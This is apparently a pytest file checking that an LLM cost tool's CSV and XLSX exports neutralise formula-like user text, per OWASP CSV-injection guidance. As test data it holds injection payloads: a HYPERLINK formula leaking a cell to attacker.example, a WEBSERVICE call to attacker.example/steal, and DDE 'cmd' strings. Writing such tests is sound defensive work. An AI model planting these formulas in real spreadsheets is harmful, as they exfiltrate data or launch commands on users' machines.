"""Formula-looking text stays text in CSV and XLSX (issue 18; OWASP CSV injection guidance).

A strategy name, a catalog's source, a model id or a notice that starts with
=, +, -, @ is written with a leading single quote in every CSV output and as
a string cell (never a formula) in the XLSX; ftcost's own formulas stay live
and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import json

import fuzz_support as fz
import pytest

from ftcost.render.cells import is_formula_like, safe_row, spreadsheet_text

NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
PLUS = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
SOURCE = '=WEBSERVICE("http://attacker.example/steal")'
NOTICE = "=1+1 winding down"
MODEL = "-2+3 fast"  # a model id that is an expression, not a number
q = json.dumps  # a JSON string is a YAML double-quoted scalar

CATALOG = f"""\
provider: evilco
currency: USD
as_of: 2026-11-01
source: {q(SOURCE)}
models:
  {q(MODEL)}:
    encoding: o200k_base
    input: 1.0
    output: 4.0
    fine_tuning:
      serving: serverless  # per token only (issue 12: a fine-tuned model's serving is stated, never a silent $0/h)
      training: 10.0
      input: 3.0
      output: 12.0
      notice: {q(NOTICE)}
"""
SCENARIO = f"""\
ftcost: 1
name: injection
start: 2027-01
pricing: [evilco.yaml]
volume: {{requests_per_month: 100000}}
baseline: {q(PLUS)}
strategies:
  - name: {q(PLUS)}
    type: prompt
    model: {q("evilco/" + MODEL)}
    request: {{prompt_tokens: 300, completion_tokens: 5}}
  - name: {q(NAME)}
    type: fine_tuned
    model: {q("evilco/" + MODEL)}
    request: {{prompt_tokens: 20, completion_tokens: 5}}
    training: {{tokens: 100000, epochs: 2}}
  - name: {q(AT)}
    type: prompt
    model: {q("evilco/" + MODEL)}
    batch_share: 0.5
    request: {{prompt_tokens: 200, completion_tokens: 5}}
"""
DANGEROUS = (NAME, PLUS, AT, SOURCE, MODEL)


@pytest.fixture
def scenario(tmp_path, monkeypatch):
    (tmp_path / "evilco.yaml").write_text(CATALOG)
    (tmp_path / "s.yaml").write_text(SCENARIO)
    monkeypatch.chdir(tmp_path)
    code, out, err = fz.cli(["compare", "s.yaml", "--format", "json"])
    assert code == 0, err
    names = [s["name"] for s in json.loads(out)["strategies"]]
    assert names == [PLUS, NAME, AT]  # the scenario loads: the text is legal, only its rendering is guarded
    return tmp_path


def test_helper():
    for text in ("=1+1", "+1+cmd", "-x", "@SUM(A1)", "\t=1", "\r=1"):
        assert is_formula_like(text) and spreadsheet_text(text) == "'" + text
    for value in ("-", "-12.5", "+3", "1e-5", "plain", "a=b", 12, -3.5, None, ""):
        assert spreadsheet_text(value) == value
    assert safe_row(["=x", 1.0, "ok"]) == ["'=x", 1.0, "ok"]


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


CSV_COMMANDS = [
    ["compare", "s.yaml", "--format", "csv"],
    ["export", "s.yaml", "-o", "-", "--horizon", "2"],
    ["sweep", "s.yaml", "--vary", "volume.requests_per_month=1000,2000", "--format", "csv"],
    ["sensitivity", "s.yaml", "--format", "csv", "--strategy", NAME],
    ["simulate", "s.yaml", "-n", "20", "--format", "csv"],
]


@pytest.mark.parametrize("args", CSV_COMMANDS, ids=[a[0] for a in CSV_COMMANDS])
def test_csv_cells_never_start_a_formula(scenario, args):
    code, out, err = fz.cli(args)
    assert code == 0, err
    cells = _csv_cells(out)
    risky = [c for c in cells if is_formula_like(c)]
    assert risky == [], risky
    assert any(d in c for c in cells for d in DANGEROUS), cells[:40]  # the names are there, not dropped
    if args[0] != "sensitivity":  # there the names are inside descriptions
        assert {c[1:] for c in cells if c.startswith("'")} & set(DANGEROUS), cells[:40]


def test_xlsx_user_text_is_never_a_formula(scenario):
    from openpyxl import load_workbook

    code, out, err = fz.cli(["export", "s.yaml", "-o", "s.xlsx", "--horizon", "3"])
    assert code == 0, err
    wb = load_workbook(scenario / "s.xlsx")
    texts, formulas = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    (formulas if c.data_type == "f" else texts).append(c.value)
    for d in (NAME, SOURCE):
        assert d in texts, d  # written, as text
        assert d not in formulas
    assert not [f for f in formulas if "HYPERLINK" in f or "WEBSERVICE" in f]
    assert any(f.startswith("=SUM(") for f in formulas)  # ftcost's own formulas stay live
    # The strings are stored as shared strings (t="s"), not <f> elements, in the file itself.
    import zipfile

    with zipfile.ZipFile(scenario / "s.xlsx") as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>HYPERLINK" not in xml and "<f>WEBSERVICE" not in xml
